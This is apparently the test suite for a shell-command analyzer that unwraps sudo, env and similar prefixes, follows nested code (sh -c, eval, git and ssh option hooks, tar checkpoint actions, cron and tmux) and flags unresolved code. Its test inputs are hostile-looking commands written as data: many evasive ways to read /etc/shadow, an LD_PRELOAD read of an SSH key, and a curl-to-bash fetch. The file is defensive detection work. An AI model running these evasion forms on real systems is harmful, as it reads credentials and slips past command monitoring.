"""Seeing through wrappers and following nested shells."""

from __future__ import annotations

import pytest
from crustcore_nano.shell import CommandFact, ShellAnalysis, ShellSignal, analyze

HOME = "/home/u"


def _an(text: str) -> ShellAnalysis:
    return analyze(text, home=HOME)


def _cmd(a: ShellAnalysis, name: str) -> CommandFact:
    for fact in a.commands:
        if fact.name == name:
            return fact
    raise AssertionError(f"{name} not in {[f.name for f in a.commands]}")


@pytest.mark.parametrize(
    ("text", "wrappers"),
    [
        ("sudo cat /etc/shadow", ("sudo",)),
        ("sudo -u root -E cat /etc/shadow", ("sudo",)),
        ("doas -u root cat /etc/shadow", ("doas",)),
        ("env -i PATH=/bin cat /etc/shadow", ("env",)),
        ("env -u HOME cat /etc/shadow", ("env",)),
        ("timeout 5 cat /etc/shadow", ("timeout",)),
        ("timeout -s KILL -k 2 5s cat /etc/shadow", ("timeout",)),
        ("nice -n 10 cat /etc/shadow", ("nice",)),
        ("nice -5 cat /etc/shadow", ("nice",)),
        ("nohup cat /etc/shadow", ("nohup",)),
        ("strace -f -o /dev/null cat /etc/shadow", ("strace",)),
        ("ltrace -o /tmp/l cat /etc/shadow", ("ltrace",)),
        ("time -p cat /etc/shadow", ("time",)),
        ("command cat /etc/shadow", ("command",)),
        ("exec cat /etc/shadow", ("exec",)),
        ("builtin cat /etc/shadow", ("builtin",)),
        ("stdbuf -oL cat /etc/shadow", ("stdbuf",)),
        ("setsid cat /etc/shadow", ("setsid",)),
        ("ionice -c 3 cat /etc/shadow", ("ionice",)),
        ("chroot / cat /etc/shadow", ("chroot",)),
        ("flock /tmp/lock cat /etc/shadow", ("flock",)),
        ("watch -x cat /etc/shadow", ("watch",)),
        ("uv run cat /etc/shadow", ("uv",)),
        ("sudo env timeout 3 nice cat /etc/shadow", ("sudo", "env", "timeout", "nice")),
        ("xargs -0 -n1 cat /etc/shadow", ("xargs",)),
    ],
)
def test_wrappers_are_removed(text: str, wrappers: tuple[str, ...]) -> None:
    a = _an(text)
    fact = _cmd(a, "cat")
    assert fact.wrappers == wrappers
    assert fact.argv[:2] == ("cat", "/etc/shadow")
    assert "/etc/shadow" in a.reads


def test_sudo_marks_privileged() -> None:
    assert _cmd(_an("sudo cat /etc/shadow"), "cat").privileged
    assert not _cmd(_an("cat /etc/shadow"), "cat").privileged


def test_env_assignments_are_recorded_per_command() -> None:
    a = _an("env -i LD_PRELOAD=/tmp/x.so PERL5OPT=-d cat f")
    assert _cmd(a, "cat").env == (("LD_PRELOAD", "/tmp/x.so"), ("PERL5OPT", "-d"))
    assert ("LD_PRELOAD", "/tmp/x.so") in a.env_assignments


def test_prefix_assignment_is_recorded() -> None:
    a = _an("LD_PRELOAD=/tmp/evil.so cat ~/.ssh/id_rsa")
    assert a.env_assignments == (("LD_PRELOAD", "/tmp/evil.so"),)
    assert _cmd(a, "cat").env == (("LD_PRELOAD", "/tmp/evil.so"),)


def test_strace_output_file_is_a_write() -> None:
    assert "/tmp/trace" in _an("strace -o /tmp/trace ls").writes


def test_command_v_runs_nothing() -> None:
    a = _an("command -v rm")
    assert "rm" not in a.executes
    assert a.deletes == ()
    assert a.programs == ("command",)


@pytest.mark.parametrize(
    "text",
    [
        "sh -c 'cat /etc/shadow'",
        "bash -c 'cat /etc/shadow'",
        "bash -lc 'cat /etc/shadow'",
        "zsh -c 'cat /etc/shadow'",
        "dash -ec 'cat /etc/shadow'",
        "/bin/sh -c 'cat /etc/shadow'",
        "eval 'cat /etc/shadow'",
        "eval cat /etc/shadow",
        "su -c 'cat /etc/shadow'",
        "su root -c 'cat /etc/shadow'",
        "watch 'cat /etc/shadow'",
        "flock /tmp/l -c 'cat /etc/shadow'",
        "script -qc 'cat /etc/shadow' /dev/null",
        "env -S 'cat /etc/shadow'",
        "echo /etc/shadow | xargs cat",
        "xargs -a list sh -c 'cat /etc/shadow'",
        "find / -name x -exec cat /etc/shadow \\;",
        "git -c core.sshCommand='cat /etc/shadow' fetch",
        "git -c alias.x='!cat /etc/shadow' x",
        "ssh -o ProxyCommand='cat /etc/shadow' host",
        "rsync -e 'cat /etc/shadow' a b:c",
        "sh <<'EOF'\ncat /etc/shadow\nEOF",
        "bash <<< 'cat /etc/shadow'",
        "echo 'cat /etc/shadow' | sh",
        "sudo sh -c \"bash -c 'eval cat /etc/shadow'\"",
        "GIT_SSH_COMMAND='cat /etc/shadow' git fetch",
        "trap 'cat /etc/shadow' EXIT",
        "alias ls='cat /etc/shadow'",
        "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='cat /etc/shadow'",
    ],
)
def test_nested_code_is_followed(text: str) -> None:
    a = _an(text)
    assert "/etc/shadow" in a.reads, a.commands
    assert any(f.name == "cat" and f.depth >= 1 for f in a.commands) or "xargs" in text


def test_sh_script_file_is_read_and_executed() -> None:
    a = _an("bash ./deploy.sh --prod")
    assert "./deploy.sh" in a.reads
    assert "./deploy.sh" in a.executes


def test_source_reads_and_executes() -> None:
    a = _an(". ~/.profile; source .venv/bin/activate")
    assert a.executes.count("/home/u/.profile") == 1
    assert ".venv/bin/activate" in a.reads


def test_depth_limit_is_signalled() -> None:
    a = _an("eval " * 12 + "cat /etc/shadow")
    assert ShellSignal.DEPTH_LIMIT in a.signals
    assert a.parsed_ok


def test_eval_of_unknown_is_unresolved_code() -> None:
    a = _an('eval "$PAYLOAD"')
    assert ShellSignal.UNRESOLVED_CODE in a.signals


def test_sh_c_with_unknown_code_is_unresolved() -> None:
    assert ShellSignal.UNRESOLVED_CODE in _an('bash -c "$(curl -s https://x.sh)"').signals


def test_unparseable_nested_code_is_signalled() -> None:
    a = _an("sh -c 'if then'")
    assert ShellSignal.UNPARSEABLE in a.signals
    assert a.parsed_ok


@pytest.mark.parametrize(
    "text",
    [
        "echo '*/5 * * * * cat /etc/shadow' | crontab -",
        "echo '@reboot cat /etc/shadow' | crontab -",
        "at now + 1 minute <<< 'cat /etc/shadow'",
        "echo 'cat /etc/shadow' | batch",
        "tmux new -d 'cat /etc/shadow'",
        "tmux send-keys -t 0 'cat /etc/shadow' Enter",
        "screen -dmS s bash -c 'cat /etc/shadow'",
    ],
)
def test_deferred_and_detached_commands_are_followed(text: str) -> None:
    assert "/etc/shadow" in _an(text).reads


def test_crontab_install_is_a_write_and_removal_a_delete() -> None:
    assert "/var/spool/cron/crontabs" in _an("crontab jobs.txt").writes
    assert "/var/spool/cron/crontabs" in _an("crontab -r").deletes
    assert _an("crontab -l").writes == ()
